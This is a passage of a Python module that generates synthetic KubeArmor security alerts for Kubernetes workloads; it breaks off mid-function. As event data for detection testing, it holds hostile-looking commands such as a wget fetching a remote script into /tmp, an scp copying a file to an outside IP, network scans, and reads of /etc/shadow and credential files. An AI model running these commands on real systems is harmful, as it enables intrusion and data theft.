"""Scenario catalogue of the event generator: what happens, in which workload.

Consumed by :mod:`integrations.emulator.generator`, which renders each
(scenario, workload, variant) once into a template and stamps times, PIDs and
ids per event. Each alert builder returns the operation-specific fields of one
alert (``Operation``, ``Resource``, ``Data``, ``Source``, process names, policy,
``Action``/``Enforcer``/``Result``, optional ``EventData`` and newer-KubeArmor
fields) following ``docs/event-schema.md`` section 7; log builders do the same
for ``ContainerLog``/``HostLog`` telemetry. Values are invented but shaped like
the public samples in ``corpus/real``.

Add a scenario by writing a builder and a row in :data:`SCENARIOS` (alerts) or
:data:`LOG_SCENARIOS` (logs); :data:`ALERT_COVERAGE` follows automatically.
"""

# The /tmp paths and 0.0.0.0 addresses below are event *data*, not files or sockets we use.
# ruff: noqa: S104, S108

from __future__ import annotations

import random
from typing import Any, Callable, Dict, Optional, Tuple

# --------------------------------------------------------------------------- catalogue
# (namespace, owner kind, owner name, container name, image repository:tag, labels,
#  main executable, main command line, shell)
APPS: Tuple[Tuple[str, str, str, str, str, str, str, str, str], ...] = (
    ("wordpress-mysql", "Deployment", "wordpress", "wordpress", "docker.io/library/wordpress:4.8-apache",
     "app=wordpress", "/usr/sbin/apache2", "/usr/sbin/apache2 -DFOREGROUND", "/bin/bash"),
    ("wordpress-mysql", "Deployment", "mysql", "mysql", "docker.io/library/mysql:5.6",
     "app=mysql", "/usr/sbin/mysqld", "/usr/sbin/mysqld --datadir=/var/lib/mysql", "/bin/bash"),
    ("default", "Deployment", "nginx", "nginx", "docker.io/library/nginx:1.25.3",
     "app=nginx,tier=web", "/usr/sbin/nginx", "/usr/sbin/nginx -g daemon off;", "/bin/sh"),
    ("cache", "StatefulSet", "redis", "redis", "docker.io/library/redis:7.2.4",
     "app.kubernetes.io/component=master,app.kubernetes.io/instance=redis,app.kubernetes.io/name=redis",
     "/usr/local/bin/redis-server", "/usr/local/bin/redis-server *:6379", "/bin/sh"),
    ("vault", "StatefulSet", "vault", "vault", "docker.io/hashicorp/vault:1.13.1",
     "app.kubernetes.io/instance=vault,app.kubernetes.io/name=vault,component=server,helm.sh/chart=vault-0.24.1,"
     "statefulset.kubernetes.io/pod-name=vault-0",
     "/bin/vault", "/bin/vault server -config=/vault/config", "/bin/sh"),
    ("kube-system", "Deployment", "coredns", "coredns", "registry.k8s.io/coredns/coredns:v1.10.1",
     "k8s-app=kube-dns,pod-template-hash=5d78c9869d", "/coredns", "/coredns -conf /etc/coredns/Corefile", "/bin/sh"),
    ("kube-system", "DaemonSet", "kube-proxy", "kube-proxy", "registry.k8s.io/kube-proxy:v1.28.2",
     "controller-revision-hash=7b8f6b6c5d,k8s-app=kube-proxy,pod-template-generation=1",
     "/usr/local/bin/kube-proxy", "/usr/local/bin/kube-proxy --config=/var/lib/kube-proxy/config.conf", "/bin/sh"),
    ("kubearmor", "DaemonSet", "kubearmor", "kubearmor", "docker.io/kubearmor/kubearmor:v1.6.5",
     "kubearmor-app=kubearmor", "/KubeArmor/kubearmor", "/KubeArmor/kubearmor -gRPC=32767", "/bin/sh"),
    ("accuknox-agents", "Deployment", "policy-enforcement-agent", "policy-enforcement-agent",
     "public.ecr.aws/k9v9d5v2/policy-enforcement-agent:v0.1.0", "app=policy-enforcement-agent",
     "/home/pea/main", "./main", "/bin/sh"),
    ("multiubuntu", "Deployment", "ubuntu-1-deployment", "ubuntu-1-container",
     "docker.io/kubearmor/ubuntu-w-utils:0.1", "container=ubuntu-1,group=group-1",
     "/bin/sleep", "/bin/sleep infinity", "/bin/bash"),
    ("dvwa", "Deployment", "dvwa-web", "dvwa", "docker.io/cytopia/dvwa:php-8.1",
     "tier=frontend,app=dvwa-web", "/usr/sbin/php-fpm8.1", "/usr/sbin/php-fpm8.1 --nodaemonize", "/bin/bash"),
    ("payments", "Deployment", "payments-api", "payments-api", "ghcr.io/acme-corp/payments-api:2.14.0",
     "app=payments-api,team=checkout,version=2.14.0", "/app/payments-api", "/app/payments-api --port=8080",
     "/bin/sh"),
    ("monitoring", "StatefulSet", "prometheus-k8s", "prometheus", "quay.io/prometheus/prometheus:v2.48.0",
     "app.kubernetes.io/name=prometheus,prometheus=k8s", "/bin/prometheus",
     "/bin/prometheus --config.file=/etc/prometheus/prometheus.yml", "/bin/sh"),
    ("elastic-system", "StatefulSet", "elasticsearch-es-default", "elasticsearch",
     "docker.elastic.co/elasticsearch/elasticsearch:8.11.1",
     "common.k8s.elastic.co/type=elasticsearch,elasticsearch.k8s.elastic.co/cluster-name=elasticsearch",
     "/usr/share/elasticsearch/jdk/bin/java", "/usr/share/elasticsearch/jdk/bin/java -Xms1g -Xmx1g", "/bin/bash"),
    ("batch", "ReplicaSet", "report-worker-5f7d8c9b6d", "report-worker", "docker.io/library/python:3.11-slim",
     "app=report-worker", "/usr/local/bin/python3.11", "/usr/local/bin/python3.11 -m worker", "/bin/sh"),
    ("default", "Pod", "debug-shell", "debug", "docker.io/library/busybox:1.36",
     "run=debug-shell", "/bin/sh", "/bin/sh", "/bin/sh"),
)

FLAVOURS = ("eks", "aks", "gke", "k3s", "kubeadm")
_KA_VERSIONS = ("v1.6.5-8-g3d55b346-dirty", "v1.6.3", "v1.5.7-199-g292bdb94-dirty", "v1.7.5", "v1.6.9")
USERS = (("root", 0), ("ubuntu", 1000), ("alice", 1001), ("ec2-user", 1000), ("deploy", 1002))
_EXTERNAL_V4 = ("104.192.3.74", "142.250.183.14", "52.216.8.51", "151.101.1.69", "185.199.108.133",
                "13.107.42.14", "34.120.177.193", "91.189.91.38")
_EXTERNAL_V6 = ("2607:f8b0:4004:c1b::64", "2a04:4e42::223", "2606:4700:10::6816:1b2")
_DOMAINS = ("google.com", "api.github.com", "pypi.org", "registry-1.docker.io", "s3.amazonaws.com",
            "xmr.pool.minergate.com", "ifconfig.me", "raw.githubusercontent.com", "login.microsoftonline.com")
_ALNUM = "bcdfghjklmnpqrstvwxz2456789"
_FILE_FLAGS = ("O_RDONLY", "O_RDONLY|O_CLOEXEC", "O_RDONLY|O_NONBLOCK|O_DIRECTORY|O_CLOEXEC",
               "O_WRONLY|O_CREAT|O_TRUNC", "O_RDWR|O_CREAT|O_NOFOLLOW|O_CLOEXEC",
               "O_WRONLY|O_CREAT|O_NOCTTY|O_NONBLOCK")
_SECRETS = ("/etc/shadow", "/etc/passwd", "/run/secrets/kubernetes.io/serviceaccount/token",
            "/root/.ssh/authorized_keys", "/etc/gshadow", "/root/.aws/credentials", "/proc/self/environ")
_FIM = ("/sbin/raw", "/usr/bin/ls", "/etc/ld.so.preload", "/usr/lib/libssl.so.3", "/bin/ps",
        "/etc/cron.d/backdoor", "/usr/sbin/sshd", "/etc/ssl/certs/ca-certificates.crt")
_CAPS = ("CAP_NET_RAW", "CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_NET_ADMIN", "CAP_DAC_OVERRIDE",
         "CAP_SYS_MODULE", "CAP_SETUID", "CAP_CHOWN")
_ERRNOS = ("No such file or directory", "Bad file descriptor", "Unknown (-524)", "Connection refused",
           "Operation not permitted")

# Policy text: (tags, message)
_T_PKG = ("NIST,NIST_800-53_CM-7(4),SI-4,process,NIST_800-53_SI-4",
          "Alert! Execution of package management process inside container is denied")
_T_FIM = ("NIST,NIST_800-53_AU-2,NIST_800-53_SI-4,MITRE,MITRE_T1036_masquerading,MITRE_T1565_data_manipulation",
          "Detected and prevented compromise to File integrity")
_T_COPY = ("MITRE,MITRE_TA0008_lateral_movement,MITRE_TA0010_exfiltration,MITRE_TA0006_credential_access,"
           "MITRE_T1552_unsecured_credentials,NIST_800-53_SI-4(18),NIST,NIST_800-53,NIST_800-53_SC-4",
           "Alert! remote file copy tools execution prevented.")
_T_SCAN = ("MITRE,FGT1046,CIS", "Network service has been scanned!")
_T_CERT = ("MITRE,MITRE_T1552_unsecured_credentials,FGT1555,FIGHT", "Credentials modification denied")
_T_TMP = ("CIS,CIS_Linux", "Alert! Execution attempted inside /tmp")
_T_K8S = ("MITRE,MITRE_T1609_container_administration_command,MITRE_TA0002_execution",
          "Alert! k8s client tool executed inside container.")
_T_DISC = ("MITRE,MITRE_T1082_system_information_discovery", "System owner discovery command execution denied")
_T_SECRET = ("MITRE,MITRE_T1528_steal_application_access_token,NIST,NIST_800-53_AC-6",
             "Service account token or credential file accessed")
_T_RAW = ("MITRE,MITRE_T1040_network_sniffing,NIST,NIST_800-53_SC-7", "Raw socket creation (CAP_NET_RAW) denied")
_T_DNS = ("MITRE,MITRE_T1071.004_dns,NIST,NIST_800-53_SC-7", "DNS query to a restricted domain")
_T_EGRESS = ("MITRE,MITRE_TA0011_command_and_control,NIST_800-53_SC-7(5)", "Unexpected egress connection")
_T_CAP = ("MITRE,MITRE_T1611_escape_to_host,CIS,CIS_Kubernetes_5.2.8", "Use of a dangerous capability")
_T_MOUNT = ("MITRE,MITRE_T1611_escape_to_host,NIST,NIST_800-53_AC-3", "mount/umount inside a container")
_T_PTRACE = ("MITRE,MITRE_T1055_process_injection", "ptrace attach to another process")
_T_UNLINK = ("File Rules,MITRE,MITRE_T1070.004_file_deletion", "File or directory deleted")
_T_USB = ("USB,NIST,NIST_800-53_MP-7", "USB device blocked")
_T_HOSTPROC = ("MITRE,Discovery", "Someone accessed running process")
_T_SSH = ("NIST,NIST_800-53_AC-17", "New SSH connection!")
_T_QUOTA = ("bandwidth,quota", "Bandwidth quota exceeded")


class Ctx:
    """A container (pod) or host that events happen in; ``fields`` are its event fields."""

    __slots__ = ("host", "fields", "shell", "main", "main_cmd", "app", "ns", "pod_net", "svc_net",
                 "dns_ip", "shim", "user", "uid", "node_ip", "keep_empty")

    def __init__(self, **kw: Any) -> None:
        for k in self.__slots__:
            setattr(self, k, kw.get(k))


def rand_hex(rng: random.Random, n: int) -> str:
    return f"{rng.getrandbits(4 * n):0{n}x}"


def rand_alnum(rng: random.Random, n: int) -> str:
    return "".join(rng.choice(_ALNUM) for _ in range(n))


def _pol(name: str, severity: str, text: Tuple[str, str]) -> Dict[str, Any]:
    tags, message = text
    return {"PolicyName": name, "Severity": severity, "Tags": tags, "ATags": tags.split(","), "Message": message}


_DEFAULT_POSTURE = {"PolicyName": "DefaultPosture", "Severity": "", "Tags": "", "ATags": None, "Message": ""}


def _enf(mode: str, rng: random.Random, *, errno: str = "Permission denied") -> Dict[str, Any]:
    """Action / Enforcer / Result triples as KubeArmor emits them."""
    if mode == "block":
        return {"Action": "Block", "Enforcer": rng.choice(("AppArmor", "BPFLSM")), "Result": errno}
    if mode == "block_apparmor":
        return {"Action": "Block", "Enforcer": "AppArmor", "Result": errno}
    if mode == "block_bpf":
        return {"Action": "Block", "Enforcer": "BPFLSM", "Result": errno}
    if mode == "audit_block":
        return {"Action": "Audit (Block)", "Enforcer": "eBPF Monitor", "Result": "Passed"}
    return {"Action": "Audit", "Enforcer": "eBPF Monitor", "Result": "Passed"}


def _mode(rng: random.Random, block: float = 0.5, audit_block: float = 0.1) -> str:
    x = rng.random()
    return "block" if x < block else ("audit_block" if x < block + audit_block else "audit")


def _sockaddr(rng: random.Random, family: str, addr: str, port: int) -> str:
    parts = [f"sa_family={family}", f"sin_port={port}", f"sin_addr={addr}"]
    rng.shuffle(parts)  # KubeArmor iterates a Go map: key order is not stable
    return " ".join(parts)


def _newer(rng: random.Random, d: Dict[str, Any], exe: str, *, lsm: Optional[str] = None) -> Dict[str, Any]:
    """Fields of newer KubeArmor builds (Cwd, TTY, ExecEvent, KubeArmorVersion, EventData)."""
    if rng.random() < 0.35:
        d.setdefault("Cwd", rng.choice(("/", "/", "/root/", "/app/", "/var/www/html/", "/data/", "/tmp/")))
        d["ExecEvent"] = {"ExecID": "", "ExecutableName": exe.rsplit("/", 1)[-1][:15]}
        if rng.random() < 0.5:
            d["TTY"] = rng.choice(("pts0", "pts1", "pts2"))
        if lsm is not None or d.get("Enforcer") in ("BPFLSM",) or d.get("Enforcer", "").startswith("PRESET"):
            d["KubeArmorVersion"] = rng.choice(_KA_VERSIONS)
    if lsm is not None and "EventData" not in d:
        d["EventData"] = {"Lsm": lsm}
    return d


# --------------------------------------------------------------------------- alert scenarios
# Each builder returns the operation-specific fields of one alert for a context.

def _s_pkg_exec(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    tool, args = rng.choice((("/usr/bin/apt", "update"), ("/usr/bin/apt-get", "install -y nmap"),
                             ("/sbin/apk", "add curl"), ("/usr/bin/dpkg", "-i /tmp/x.deb"),
                             ("/usr/bin/yum", "install -y socat")))
    bpf = rng.random() < 0.4
    d = {"Operation": "Process", "Source": c.shell, "ProcessName": tool, "ParentProcessName": c.shell,
         "Resource": f"{tool} {args}" if rng.random() < 0.7 else tool,
         "Data": "lsm=SECURITY_BPRM_CHECK" if bpf else "syscall=SYS_EXECVE"}
    d.update(_pol(f"harden-{c.app}-pkg-mngr-exec", "5", _T_PKG))
    d.update(_enf("block_bpf" if bpf else _mode(rng, 0.6), rng))
    return _newer(rng, d, tool, lsm="SECURITY_BPRM_CHECK" if bpf else None)


def _s_exec_posture(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    tool, args = rng.choice((("/usr/bin/ls", "-la /root"), ("/usr/bin/id", ""), ("/usr/bin/whoami", ""),
                             ("/bin/ps", "aux"), ("/bin/netstat", "-tulpn"), ("/usr/bin/kubectl", "get pods"),
                             ("/usr/bin/env", ""), ("/bin/uname", "-a"), ("/usr/bin/base64", "-d /tmp/p")))
    d = {"Operation": "Process", "Source": c.shell, "ProcessName": tool, "ParentProcessName": c.shell,
         "Resource": f"{tool} {args}".strip(), "Data": "syscall=SYS_EXECVE"}
    d.update(_DEFAULT_POSTURE)
    d.update(_enf(_mode(rng, 0.55, 0.15), rng))
    return _newer(rng, d, tool)


def _s_exec_hardening(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    tool, args, pol, sev, text = rng.choice((
        ("/usr/bin/scp", "/etc/ca-certificates.conf 104.192.3.74:/mine/", "remote-file-copy", "5", _T_COPY),
        ("/usr/bin/wget", "http://104.192.3.74/x.sh -O /tmp/x.sh", "remote-file-copy", "5", _T_COPY),
        ("/bin/netstat", "-an", "network-service-scanning", "5", _T_SCAN),
        ("/usr/bin/nmap", "-sS 10.0.0.0/24", "network-service-scanning", "5", _T_SCAN),
        ("/usr/bin/kubectl", "get secrets -A", "k8s-client-tool-exec", "5", _T_K8S),
        ("/usr/bin/id", "", "system-owner-discovery", "3", _T_DISC),
        ("/tmp/sh-thd-2512146865", "", "block-exec-inside-tmp", "1", _T_TMP),
    ))
    d = {"Operation": "Process", "Source": c.shell, "ProcessName": tool, "ParentProcessName": c.shell,
         "Resource": f"{tool} {args}".strip(), "Data": "syscall=SYS_EXECVE"}
    name = f"ksp-{pol}" if pol.startswith("block") else f"harden-{c.app}-{pol}"
    d.update(_pol(name, sev, text))
    bpf = rng.random() < 0.3
    if bpf:
        d["Data"] = "lsm=SECURITY_BPRM_CHECK"
    d.update(_enf("block_bpf" if bpf else _mode(rng, 0.6), rng))
    return _newer(rng, d, tool, lsm="SECURITY_BPRM_CHECK" if bpf else None)


def _s_exec_special(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    """execveat (fileless), ptrace, and an exec that failed with an errno."""
    kind = rng.randrange(3)
    if kind == 0:
        fd = rng.randrange(3, 12)
        d = {"Operation": "Process", "Source": c.main_cmd, "ProcessName": f"/proc/self/fd/{fd}",
             "ParentProcessName": c.main, "Resource": f"/proc/self/fd/{fd}",
             "Data": f"syscall=SYS_EXECVEAT fd={fd} flag=AT_EMPTY_PATH"}
        d.update(_pol(f"harden-{c.app}-fileless-exec", "7", ("MITRE,MITRE_T1620_reflective_code_loading",
                                                             "Fileless execution via memfd detected")))
        d.update(_enf("audit", rng))
    elif kind == 1:
        target = rng.choice((c.main, "/usr/sbin/sshd", "/bin/bash"))
        pid = rng.randrange(2, 400)
        d = {"Operation": "Process", "Source": f"/usr/bin/gdb -p {pid}", "ProcessName": "/usr/bin/gdb",
             "ParentProcessName": c.shell, "Resource": target,
             "Data": f"syscall=SYS_PTRACE request=PTRACE_ATTACH pid={pid} process={target}"}
        d.update(_pol(f"ksp-{c.app}-block-ptrace", "8", _T_PTRACE))
        d.update(_enf(_mode(rng, 0.5), rng))
    else:
        tool = rng.choice(("/usr/bin/wget", "/usr/bin/curl", "/usr/bin/python3"))
        d = {"Operation": "Process", "Source": c.shell, "ProcessName": tool, "ParentProcessName": c.shell,
             "Resource": f"{tool} --version", "Data": "syscall=SYS_EXECVE"}
        d.update(_DEFAULT_POSTURE)
        d.update({"Action": "Audit", "Enforcer": "eBPF Monitor", "Result": rng.choice(_ERRNOS[:3])})
    return _newer(rng, d, d["ProcessName"])


def _s_file_secret(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    path = rng.choice(_SECRETS)
    tool = rng.choice(("/bin/cat", "/usr/bin/cat", "/usr/bin/head", "/usr/bin/less", c.main))
    mode = _mode(rng, 0.5)
    if mode == "block" and rng.random() < 0.5:
        data = "syscall=SYS_OPEN flags=O_RDONLY"
        d = _enf("block_apparmor", rng)
    else:
        data = f"syscall=SYS_OPENAT fd=-100 flags={rng.choice(_FILE_FLAGS[:3])}"
        d = _enf(mode if mode != "block" else "block_apparmor", rng)
    d.update({"Operation": "File", "Source": f"{tool} {path}", "ProcessName": tool, "ParentProcessName": c.shell,
              "Resource": path, "Data": data})
    d.update(_pol(f"ksp-{c.app}-sa-token-access", "7", _T_SECRET) if rng.random() < 0.6 else _DEFAULT_POSTURE)
    return _newer(rng, d, tool)


def _s_file_fim(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    path = rng.choice(_FIM)
    if "certs" in path:
        pol = _pol(f"harden-{c.app}-trusted-cert-mod", "1", _T_CERT)
    else:
        pol = _pol(f"harden-{c.app}-file-integrity-monitoring", "1", _T_FIM)
    tool, data = rng.choice((
        ("/usr/bin/touch", f"syscall=SYS_OPEN flags={_FILE_FLAGS[5]}"),
        ("/bin/cp", f"syscall=SYS_OPENAT fd=-100 flags={_FILE_FLAGS[3]}"),
        ("/bin/rm", "syscall=SYS_UNLINKAT flags="),
        ("/usr/bin/chown", "syscall=SYS_FCHOWNAT userid=0 group=0 mode=0"),
        ("/bin/rmdir", "syscall=SYS_RMDIR"),
    ))
    d = {"Operation": "File", "Source": f"{tool} {path}", "ProcessName": tool, "ParentProcessName": c.shell,
         "Resource": path, "Data": data}
    d.update(pol)
    d.update(_enf(_mode(rng, 0.75), rng))
    return _newer(rng, d, tool)


def _s_file_bpflsm(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    hook, path = rng.choice((("FILE_OPEN", "/etc/shadow"), ("FILE_PERMISSION", "/etc/nginx/nginx.conf"),
                             ("FILE_MKDIR", "/tmp/.x"), ("FILE_UNLINK", "/var/log/auth.log"),
                             ("FILE_RENAME", "/usr/bin/ps"), ("FILE_CHMOD", "/tmp/payload"),
                             ("FILE_SYMLINK", "/root/.bash_history"), ("FILE_TRUNCATE", "/var/log/wtmp"),
                             ("FILE_MKNOD", "/dev/mem")))
    tool = rng.choice(("/usr/bin/vi", "/bin/busybox", "/usr/bin/python3", c.shell))
    d = {"Operation": "File", "Source": f"{tool} {path}", "ProcessName": tool, "ParentProcessName": c.shell,
         "Resource": path, "Data": f"lsm={hook}"}
    d.update(_pol(f"ksp-{c.app}-protect-system-files", "6", _T_FIM) if rng.random() < 0.7 else _DEFAULT_POSTURE)
    d.update(_enf("block_bpf", rng) if rng.random() < 0.7 else _enf("audit", rng))
    if d["Action"] == "Audit":
        d["Enforcer"] = "BPFLSM"
    return _newer(rng, d, tool, lsm=hook)


def _s_file_preset(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    exe = rng.choice(("/usr/bin/cat", "/usr/bin/env", "/usr/bin/python3", c.main))
    if rng.random() < 0.6:
        d = {"Operation": "File", "Source": exe, "ProcessName": exe, "ParentProcessName": c.shell,
             "Resource": exe if rng.random() < 0.5 else "/proc/self/environ",
             "PolicyName": "preset-proc-env", "Enforcer": "PRESET-ProtectEnvPreset"}
    else:
        d = {"Operation": "File", "Source": exe, "ProcessName": exe, "ParentProcessName": c.shell, "Resource": exe,
             "Data": rng.choice(("PROT_WRITE,PROT_EXEC", "PROT_READ,PROT_WRITE,PROT_EXEC")),
             "PolicyName": "preset-anon-map-exec", "Enforcer": "PRESET-AnonMapExecutionPreset"}
    block = rng.random() < 0.6
    d.update({"Action": "Block" if block else "Audit", "Result": "Permission denied" if block else "Passed",
              "Severity": "", "Tags": "", "ATags": None, "Message": ""})
    d = _newer(rng, d, exe)
    d["KubeArmorVersion"] = rng.choice(_KA_VERSIONS)
    return d


def _s_file_errno(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    if rng.random() < 0.5:
        path = rng.choice(("/etc/app/config.yaml", "/var/run/secrets/vault/token", "/opt/app/.env"))
        d = {"Resource": path, "Data": "syscall=SYS_OPENAT fd=-100 flags=O_RDONLY|O_CLOEXEC",
             "Result": "No such file or directory", "Source": c.main_cmd, "ProcessName": c.main}
    else:
        d = {"Resource": "", "Data": f"syscall=SYS_CLOSE fd={rng.randrange(3, 64)}", "Result": "Bad file descriptor",
             "Source": c.main_cmd, "ProcessName": c.main}
    d.update({"Operation": "File", "ParentProcessName": c.shim, "Action": "Audit", "Enforcer": "eBPF Monitor"})
    d.update(_pol(f"audit-{c.app}-config-access", "2", ("NIST,NIST_800-53_AU-2", "Configuration file access audited")))
    return _newer(rng, d, c.main)


def _s_net_socket(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    tool = rng.choice(("/usr/bin/curl", "/usr/sbin/hping3", "/usr/bin/ping", "/usr/bin/nc", "/bin/vault"))
    dom = rng.choice(("AF_INET", "AF_INET", "AF_INET6", "AF_UNIX", "AF_NETLINK"))
    typ = rng.choice(("SOCK_DGRAM|SOCK_NONBLOCK|SOCK_CLOEXEC", "SOCK_STREAM|SOCK_NONBLOCK|SOCK_CLOEXEC",
                      "SOCK_STREAM", "SOCK_DGRAM"))
    proto = rng.choice(("0", "0", "TCP", "UDP", "ICMP", "HOPOPT"))
    d = {"Operation": "Network", "Source": f"{tool} {rng.choice(_DOMAINS)}", "ProcessName": tool,
         "ParentProcessName": c.shell, "Resource": f"domain={dom} type={typ} protocol={proto}",
         "Data": "syscall=SYS_SOCKET"}
    if rng.random() < 0.5:
        d.update(_DEFAULT_POSTURE)
        d.update(_enf(_mode(rng, 0.7), rng))
    else:
        d.update(_pol(f"ksp-{c.app}-network", "8", _T_EGRESS))
        d.update(_enf("audit", rng))
    return _newer(rng, d, tool)


def _s_net_raw(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    tool = rng.choice(("/usr/sbin/tcpdump", "/usr/bin/ping", "/usr/sbin/arping"))
    d = {"Operation": "Network", "Source": tool, "ProcessName": tool, "ParentProcessName": c.shell,
         "Resource": rng.choice(("domain=AF_PACKET type=SOCK_RAW protocol=768",
                                 "domain=AF_INET type=SOCK_RAW protocol=ICMP")),
         "Data": "syscall=SYS_SOCKET"}
    d.update(_pol(f"ksp-{c.app}-cap-net-raw-block", "1", _T_RAW))
    d.update(_enf("block_apparmor", rng, errno="Operation not permitted"))
    return _newer(rng, d, tool)


def _s_net_connect(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    fd = rng.randrange(3, 40)
    kind = rng.randrange(5)
    tool = rng.choice((c.main, "/usr/bin/curl", "/usr/bin/wget", "/usr/bin/python3"))
    syscall = "SYS_CONNECT"
    if kind == 0:
        res = _sockaddr(rng, "AF_INET", c.dns_ip, 53)
    elif kind == 1:
        res = _sockaddr(rng, "AF_INET", rng.choice(_EXTERNAL_V4), rng.choice((443, 80, 4444, 3333, 8443)))
    elif kind == 2:
        res = _sockaddr(rng, "AF_INET6", rng.choice(_EXTERNAL_V6), rng.choice((443, 80)))
    elif kind == 3:
        res = "sa_family=AF_UNIX sun_path=" + rng.choice(("/var/run/docker.sock", "/run/containerd/containerd.sock",
                                                            "/var/run/crio/crio.sock", "/tmp/.X11-unix/X0"))
    else:
        syscall = rng.choice(("SYS_BIND", "SYS_ACCEPT"))
        res = _sockaddr(rng, "AF_INET", "0.0.0.0", rng.choice((8080, 9000, 31337)))
    d = {"Operation": "Network", "Source": f"{tool} {rng.choice(_DOMAINS)}" if tool != c.main else c.main_cmd,
         "ProcessName": tool, "ParentProcessName": c.shell if tool != c.main else c.shim, "Resource": res,
         "Data": f"syscall={syscall} fd={fd}"}
    if kind == 3:
        d.update(_pol(f"ksp-{c.app}-block-runtime-socket", "9", _T_CAP))
        d.update(_enf(_mode(rng, 0.6), rng))
    else:
        d.update(_pol(f"ksp-{c.app}-egress-audit", "4", _T_EGRESS) if rng.random() < 0.6 else _DEFAULT_POSTURE)
        d.update(_enf("audit", rng) if rng.random() < 0.8 else _enf("audit_block", rng))
    if rng.random() < 0.25:
        ed = {"Syscall": syscall, "Fd": str(fd)}
        for part in res.split(" "):
            k, _, v = part.partition("=")
            ed[k[:1].upper() + k[1:]] = v
        d["EventData"] = ed
    return _newer(rng, d, tool)


def _s_net_tcp(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    if rng.random() < 0.55:
        v6 = rng.random() < 0.25
        ip = rng.choice(_EXTERNAL_V6) if v6 else rng.choice(_EXTERNAL_V4 + (c.svc_net + "0.1",))
        port = rng.choice((443, 80, 4369, 6379, 5432, 9200))
        data = f"kprobe=tcp_connect domain={'AF_INET6' if v6 else 'AF_INET'}"
        tool = rng.choice((c.main, "/usr/bin/curl", "/usr/bin/python3"))
    else:
        v6 = rng.random() < 0.6
        peer = f"{c.pod_net}{rng.randrange(1, 250)}"
        ip = (f"::ffff:{peer}" if rng.random() < 0.6 else f"fd00:10:244::{rng.randrange(1, 0xfff):x}") if v6 else peer
        port = rng.choice((80, 8080, 443, 32767, 6379))
        data = f"kprobe=tcp_accept domain={'AF_INET6' if v6 else 'AF_INET'}"
        tool = c.main
    res = f"remoteip={ip} port={port} protocol={'TCPv6' if v6 else 'TCP'}"
    d = {"Operation": "Network", "Source": c.main_cmd if tool == c.main else f"{tool} {ip}", "ProcessName": tool,
         "ParentProcessName": c.shim if tool == c.main else c.shell, "Resource": res, "Data": data}
    d.update(_pol(f"ksp-{c.app}-network-visibility", "3", _T_EGRESS))
    d.update(_enf("audit", rng))
    if rng.random() < 0.05:
        d["Result"] = "Unknown error"  # known KubeArmor data bug on tcp events
    if rng.random() < 0.5:
        k, _, dom = data.partition(" ")
        d["EventData"] = {"Kprobe": k.split("=", 1)[1], "Domain": dom.split("=", 1)[1], "Remoteip": ip,
                          "Port": str(port), "Protocol": "TCPv6" if v6 else "TCP"}
    return _newer(rng, d, tool)


def _s_net_dns(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    domain = rng.choice(_DOMAINS)
    qname = domain + rng.choice(("", f".{c.ns}.svc.cluster.local", ".svc.cluster.local", ".cluster.local"))
    qtype = rng.choice(("A", "AAAA"))
    tool = rng.choice(("/usr/bin/curl", "/usr/bin/wget", "/usr/bin/nslookup", c.main))
    era = rng.randrange(3)
    if era == 0:  # up to v1.6.5: comma-separated
        kfunc = f"UDP_SENDMSG,domain={qname},daddr={c.dns_ip},qtype={qtype}"
        data = "kfunc=" + kfunc
        ed = {"Kfunc": kfunc, "Sa_family": "AF_INET", "Sin_port": "53"}  # old EventData bug
    else:
        k = "UDP_SENDMSG" if era == 1 else "UDP_SENDSKB"
        data = f"kfunc={k} domain={qname} daddr={c.dns_ip} qtype={qtype}"
        ed = {"Kfunc": k, "Domain": qname, "Daddr": c.dns_ip, "Qtype": qtype, "Sa_family": "AF_INET",
              "Sin_port": "53"}
    d = {"Operation": "Network", "Source": f"{tool} {domain}" if tool != c.main else c.main_cmd,
         "ProcessName": tool, "ParentProcessName": c.shell, "Resource": "sa_family=AF_INET sin_port=53",
         "Data": data, "EventData": ed}
    d.update(_pol(f"ksp-{c.app}-dns-audit", "4", _T_DNS))
    d.update(_enf("audit", rng))
    return _newer(rng, d, tool)


def _s_net_bpflsm(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    tool = rng.choice(("/usr/bin/nc", "/usr/bin/curl", "/usr/bin/socat", "/usr/bin/python3"))
    x = rng.random()
    if x < 0.3:  # BPF-LSM DNS
        domain = rng.choice(_DOMAINS)
        hook, res, data = "SOCKET_SENDMSG", domain, f"lsm=SOCKET_SENDMSG domain={domain}.{c.ns}.svc.cluster.local"
        ed = {"Domain": f"{domain}.{c.ns}.svc.cluster.local", "Lsm": hook}
        pol = _pol("block-dns-query-to-google-subdomains" if domain == "google.com" else f"ksp-{c.app}-dns-block",
                   "10", _T_DNS)
    elif x < 0.92:
        hook = rng.choice(("SOCKET_CREATE", "SOCKET_CONNECT", "SOCKET_ACCEPT"))
        res = rng.choice(("protocol=TCP type=SOCK_STREAM", "protocol=UDP type=SOCK_DGRAM",
                          "protocol=ICMP type=SOCK_RAW"))
        data, ed = f"lsm={hook} {res}", {"Lsm": hook}
        pol = _pol(f"ksp-{c.app}-block-{res.split()[0].split('=')[1].lower()}", "6", _T_EGRESS)
    else:  # unknown socket type: "unknown" or a raw control character
        hook = "SOCKET_CREATE"
        res = rng.choice(("unknown", "\u0000"))
        data, ed, pol = f"lsm={hook} {res}", {"Lsm": hook}, dict(_DEFAULT_POSTURE)
    d = {"Operation": "Network", "Source": tool, "ProcessName": tool, "ParentProcessName": c.shell,
         "Resource": res, "Data": data, "EventData": ed}
    d.update(pol)
    d.update(_enf("block_bpf", rng))
    return _newer(rng, d, tool, lsm=hook)


def _s_capabilities(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    cap = rng.choice(_CAPS)
    tool = {"CAP_NET_RAW": "/usr/sbin/tcpdump", "CAP_SYS_ADMIN": "/bin/mount", "CAP_SYS_PTRACE": "/usr/bin/strace",
